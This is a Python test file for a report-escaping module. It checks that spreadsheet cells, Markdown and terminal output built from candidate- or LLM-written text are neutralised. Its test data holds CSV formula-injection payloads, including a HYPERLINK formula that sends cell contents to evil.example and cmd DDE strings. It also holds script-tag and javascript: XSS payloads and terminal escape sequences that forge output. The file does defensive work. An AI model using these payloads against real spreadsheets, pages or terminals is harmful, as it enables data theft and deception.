"""report/escape.py: each format's escaping, on what a candidate or an LLM may write."""

from __future__ import annotations

import csv
import io
import re

import pytest
from markdown_it import MarkdownIt

from autoresearch.ui.report.escape import (
    md_cell,
    md_code,
    md_code_cell,
    md_fence,
    md_text,
    spreadsheet_cell,
    terminal_text,
)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # spreadsheets skip leading blanks
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-", "'-"),
        ("- try a wider layer", "'- try a wider layer"),
        # Numbers written as text stay numbers; plain text is left alone.
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("0.0", "0.0"),
        ("widen the MLP = more capacity", "widen the MLP = more capacity"),
        ("", ""),
    ],
)
def test_spreadsheet_cells_starting_like_a_formula_are_text(cell: str, expected: str) -> None:
    assert spreadsheet_cell(cell) == expected


def test_spreadsheet_cell_keeps_numbers_as_numbers() -> None:
    assert spreadsheet_cell(-2.5) == -2.5 and spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) is None
    out = io.StringIO()
    csv.writer(out).writerow([spreadsheet_cell(v) for v in (-2.5, "-2.5", "=1+1")])
    assert out.getvalue().strip() == "-2.5,-2.5,'=1+1"


ATTACKS_MD = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](http://evil.example/)",
    "![x](http://evil.example/pixel.png)",
    "<http://evil.example>",
    "see https://evil.example/x now",
    "www.evil.example",
    "mail me@evil.example",
    "[ref]: http://evil.example",
    "[click](javascript:alert(1))",
    "&lt;script&gt; as an entity",
    "**<b onmouseover=alert(1)>bold</b>**",
    "` <script>x</script> `",
]


def _acts(markdown: str) -> list[str]:
    """What in MARKDOWN would act once rendered (CommonMark with raw HTML on, as GitHub renders it, by
    markdown-it-py): a tag other than our own, a link, an image; or, outside code, a bare URL or e-mail
    address that GitHub would link."""
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    outside_code = re.sub(r"<code>.*?</code>", " ", rendered, flags=re.DOTALL)
    tags = re.findall(r"<(?!/?(?:p|code|strong|em|table|thead|tbody|tr|th|td)>)[a-zA-Z/!?][^>]*>?", outside_code)
    return tags + re.findall(r"https?://|www\.|\w@\w", outside_code)


@pytest.mark.parametrize("text", ATTACKS_MD)
def test_markdown_text_shows_html_links_and_autolinks_as_text(text: str) -> None:
    for rendered in (md_text(text), md_cell(text)):
        assert _acts(rendered) == [], rendered
    for rendered in (md_code(text), md_code_cell(text)):
        assert rendered.startswith("`") and _acts(rendered) == [], rendered


def test_markdown_keeps_our_code_spans_and_bold_and_no_block_starts() -> None:
    assert md_text("Study `a<b` kept **#3**.") == "Study `a<b` kept **#3**."
    assert md_text("# not a heading") == "\\# not a heading"
    assert md_text("- not a list") == "\\- not a list"
    assert md_text("12. not a list") == "12\\. not a list"
    assert md_text("*emphasis* stays") == "*emphasis* stays"
    assert md_cell("a | b") == "a \\| b"


def test_code_span_and_fence_hold_any_backticks() -> None:
    assert md_code("a``b") == "```a``b```"
    assert md_code("`x") == "`` `x ``"
    assert md_code("  two\nlines ") == "`two lines`" and md_code(" ") == ""
    lines = md_fence("a\n````\nb", "diff")
    assert lines[0] == "`````diff" and lines[-1] == "`````"
    assert md_fence("plain")[0] == "```text"


def test_the_attacks_act_when_not_escaped() -> None:
    # The check above can fail: unescaped, these render as tags, links, images or bare links.
    assert all(_acts(text) for text in ATTACKS_MD[:8])


@pytest.mark.parametrize(
    "planted",
    [
        "\x1b[2J\x1b[Hkept, +99%",  # clear the screen, then a fake verdict
        "\x1b]0;owned\x07",  # the window title
        "\x1b]8;;https://example.invalid\x1b\\click\x1b]8;;\x1b\\",  # a hyperlink
        "\x9b31mred",  # C1's one-byte CSI
        "loss: 9\x08\x08\x08 0.1",  # backspaces rub out the true value
    ],
)
def test_terminal_text_shows_control_sequences_and_sends_none(planted: str) -> None:
    shown = terminal_text(planted)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
    assert "\\x" in shown  # made visible, not dropped silently


def test_terminal_text_keeps_lines_and_tabs_and_breaks_on_carriage_returns() -> None:
    assert terminal_text("a\tb\nc") == "a\tb\nc"
    assert terminal_text(" 10%\r 50%\r\ndone") == " 10%\n 50%\ndone"
